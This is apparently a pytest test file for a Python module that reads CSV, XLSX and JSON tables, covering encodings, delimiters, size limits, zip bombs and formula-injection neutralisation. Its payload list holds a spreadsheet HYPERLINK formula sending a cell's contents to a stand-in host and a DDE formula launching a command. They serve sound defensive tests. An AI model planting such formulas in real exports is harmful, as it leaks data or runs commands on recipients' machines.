"""Reading CSV, XLSX and JSON files into headers and rows of text."""

from __future__ import annotations

import csv
import io
import tracemalloc

import pytest
from hypothesis import given
from hypothesis import settings as hyp_settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from koers.core.tabular import (
    Limits,
    TabularError,
    is_formula_like,
    neutralise,
    read_table,
    sniff_delimiter,
    unneutralise,
    write_csv,
    write_xlsx,
)
from koers.testing.hostile_files import hostile_xlsx, xlsx_with_cells


def xlsx(rows: list[list[object]]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_it_reads_a_comma_separated_utf8_file():
    table = read_table(b"name,city\nAnna,Zwolle\nBram,Utrecht\n", "people.csv")
    assert table.headers == ["name", "city"]
    assert table.rows == [["Anna", "Zwolle"], ["Bram", "Utrecht"]]
    assert table.row_numbers == [2, 3]


def test_it_strips_the_byte_order_mark_excel_writes():
    table = read_table("\ufeffname;city\nAnna;Zwolle\n".encode(), "people.csv")
    assert table.headers == ["name", "city"]


def test_it_falls_back_to_windows_1252_for_old_excel_csv_files():
    table = read_table("naam;stad\nJosé;Café Ø\n".encode("cp1252"), "mensen.csv")
    assert table.rows == [["José", "Café Ø"]]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_it_sniffs_the_delimiter_from_the_header_row(delimiter):
    text = delimiter.join(["a", "b", "c"]) + "\n" + delimiter.join(['"1; 2, 3"', "x", "y"])
    assert sniff_delimiter(text) == delimiter
    assert read_table(text.encode(), "f.csv").rows == [["1; 2, 3", "x", "y"]]


def test_it_keeps_quoted_newlines_inside_one_cell_and_numbers_rows_as_a_spreadsheet_does():
    text = 'title,problem\n"A","line one\nline two"\n"B","x"\n'
    table = read_table(text.encode(), "f.csv")
    assert table.rows[0][1] == "line one\nline two"
    assert table.row_numbers == [2, 3]


def test_it_skips_blank_rows_but_keeps_counting_them():
    table = read_table(b"a,b\n1,2\n,\n\n3,4\n", "f.csv")
    assert table.rows == [["1", "2"], ["3", "4"]]
    assert table.row_numbers == [2, 5]


def test_it_pads_short_rows_and_accepts_empty_trailing_cells():
    table = read_table(b"a,b,c\n1\n2,3,4,,\n", "f.csv")
    assert table.rows == [["1", "", ""], ["2", "3", "4"]]


def test_it_refuses_cells_beyond_the_last_column_name():
    with pytest.raises(TabularError) as caught:
        read_table(b"a,b\n1,2,3\n", "f.csv")
    assert caught.value.code == "extra_cells"
    assert caught.value.params == {"row": 2}


def test_it_refuses_duplicate_column_names_case_insensitively():
    with pytest.raises(TabularError) as caught:
        read_table(b"name,Name,email\n", "f.csv")
    assert caught.value.code == "duplicate_headers"
    assert "Name" in str(caught.value)


@pytest.mark.parametrize("content", [b"", b"   \n\n", b",,,\n"])
def test_it_refuses_an_empty_file(content):
    with pytest.raises(TabularError) as caught:
        read_table(content, "f.csv")
    assert caught.value.code == "empty"


def test_it_reads_the_first_sheet_of_an_xlsx_file_with_typed_cells_as_text():
    content = xlsx([["title", "hours", "ok", "whole"], ["Chatbot", 12.5, True, 3.0], [None, None]])
    table = read_table(content, "usecases.xlsx")
    assert table.headers == ["title", "hours", "ok", "whole"]
    assert table.rows == [["Chatbot", "12.5", "yes", "3"]]


def test_it_recognises_xlsx_by_content_whatever_the_file_is_called():
    table = read_table(xlsx([["a"], ["1"]]), "upload.bin")
    assert table.rows == [["1"]]


def test_it_says_a_damaged_xlsx_file_is_unreadable():
    with pytest.raises(TabularError) as caught:
        read_table(b"PK\x03\x04 not really a zip", "broken.xlsx")
    assert caught.value.code == "unreadable"


def test_it_asks_for_xlsx_or_csv_instead_of_an_old_xls_file():
    with pytest.raises(TabularError) as caught:
        read_table(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "old.xls")
    assert caught.value.code == "old_excel"


def test_it_reads_a_json_list_of_objects_flattening_lists_and_booleans():
    content = b'[{"title": "A", "departments": ["HR", "IT"], "anonymous": true, "hours": 2.5},'
    content += b' {"title": "B", "extra": {"k": 1}, "hours": null}]'
    table = read_table(content, "usecases.json")
    assert table.headers == ["title", "departments", "anonymous", "hours", "extra"]
    assert table.rows == [["A", "HR; IT", "yes", "2.5", ""], ["B", "", "", "", '{"k": 1}']]


def test_it_refuses_json_that_is_not_a_list_of_objects():
    with pytest.raises(TabularError) as caught:
        read_table(b'{"title": "A"}', "usecases.json")
    assert caught.value.code == "not_a_list"


def test_it_yields_records_keyed_by_header_with_their_row_number():
    table = read_table(b"a,b\n1,2\n", "f.csv")
    assert list(table.records()) == [(2, {"a": "1", "b": "2"})]
    assert len(table) == 1


# --- formula injection: one rule for every CSV and XLSX export --------------------------------

FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_it_writes_formula_like_text_to_csv_behind_an_apostrophe_and_reads_it_back(payload):
    content = write_csv(["title"], [[payload]])
    [_header, [cell]] = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert cell == "'" + payload
    assert read_table(content, "export.csv").rows == [[payload]]


def test_it_leaves_numbers_and_ordinary_text_in_csv_as_they_are():
    content = write_csv(["a", "b", "c", "d"], [[-5, 2.5, "Chatbot", "it's fine"]])
    assert content.decode("utf-8-sig").splitlines()[1] == "-5,2.5,Chatbot,it's fine"


@given(st.text(alphabet="'=+-@\t\r a", max_size=8) | st.text(max_size=12))
@hyp_settings(max_examples=150, deadline=None)
def test_neutralising_never_leaves_a_formula_and_reading_undoes_it_exactly(text):
    cell = neutralise(text)
    assert not is_formula_like(cell)
    assert unneutralise(cell) == text


def test_it_writes_formula_like_text_to_xlsx_as_text_and_negative_numbers_as_numbers():
    content = write_xlsx("t", ["a", "b", "c", "d"], [[-5, "-5", "=1+1", "@SUM(1,1)"]])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    [cells] = list(sheet.iter_rows(min_row=2))
    assert [(c.value, c.data_type) for c in cells] == [
        (-5, "n"),
        ("-5", "s"),
        ("=1+1", "s"),
        ("@SUM(1,1)", "s"),
    ]


# --- hostile files: bounded before and while reading ------------------------------------------


def test_it_reads_a_workbook_built_part_by_part_like_the_hostile_ones():
    content = xlsx_with_cells({"A1": "title", "B1": "team", "A2": "Chatbot", "B3": "HR"})
    table = read_table(content, "f.xlsx")
    assert table.rows == [["Chatbot", ""], ["", "HR"]]


def test_it_refuses_a_sheet_that_declares_a_million_rows_without_growing():
    content = hostile_xlsx()
    assert len(content) < 5000
    tracemalloc.start()
    try:
        with pytest.raises(TabularError) as refused:
            read_table(content, "evil.xlsx")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert refused.value.code == "declared_too_large"
    assert refused.value.params["ref"] == "A1:XFD1048576"
    assert peak < 20 * 1024 * 1024


def test_it_counts_rows_and_columns_while_reading_when_the_sheet_declares_no_size():
    with pytest.raises(TabularError) as refused:
        read_table(xlsx_with_cells({"A1": "title", "XFD1048576": "x"}), "evil.xlsx")
    assert refused.value.code == "too_many_columns"
    small = Limits(lines=1000)
    with pytest.raises(TabularError) as refused:
        read_table(xlsx_with_cells({"A1": "title", "A5000": "x"}), "f.xlsx", small)
    assert refused.value.code == "too_many_rows"


def test_it_refuses_a_zip_bomb_before_unpacking_it():
    content = xlsx_with_cells({"A1": "title"}, bomb_mb=4)
    assert len(content) < 100_000
    with pytest.raises(TabularError) as refused:
        read_table(content, "bomb.xlsx", Limits(unpacked_bytes=2 * 1024 * 1024))
    assert refused.value.code == "too_large_unpacked"


@pytest.mark.parametrize(
    ("limits", "code"),
    [
        (Limits(rows=2), "too_many_rows"),
        (Limits(columns=2), "too_many_columns"),
        (Limits(cells=5), "too_many_cells"),
        (Limits(cell_chars=5), "cell_too_long"),
    ],
)
def test_it_bounds_rows_columns_cells_and_cell_length_in_csv(limits, code):
    content = b"a,b,c\n1,2,3\n4,5,6\n7,8,long cell\n"
    with pytest.raises(TabularError) as refused:
        read_table(content, "f.csv", limits)
    assert refused.value.code == code


def test_it_names_the_row_of_a_csv_cell_over_the_field_limit():
    content = b"title\nok\n" + b"x" * 200_000 + b"\n"
    with pytest.raises(TabularError) as refused:
        read_table(content, "f.csv")
    assert (refused.value.code, refused.value.params["row"]) == ("cell_too_long", 3)


def test_it_refuses_a_workbook_with_too_many_sheets():
    workbook = Workbook()
    for number in range(3):
        workbook.create_sheet(f"extra {number}")
    buffer = io.BytesIO()
    workbook.save(buffer)
    with pytest.raises(TabularError) as refused:
        read_table(buffer.getvalue(), "f.xlsx", Limits(sheets=3))
    assert refused.value.code == "too_many_sheets"


# --- Excel's "sep=" line --------------------------------------------------------------------


@pytest.mark.parametrize("delimiter", [";", ",", "\t", "|"])
def test_it_uses_the_delimiter_excels_sep_line_names_and_counts_rows_after_it(delimiter):
    others = "x".join(d for d in ",;|" if d != delimiter)  # would mislead a guess
    text = f"sep={delimiter}\r\ntitle{others}{delimiter}team\r\nA B{delimiter}HR\r\n"
    table = read_table(("\ufeff" + text).encode(), "excel.csv")
    assert table.headers == [f"title{others}", "team"]
    assert table.rows == [["A B", "HR"]]
    assert table.row_numbers == [2]
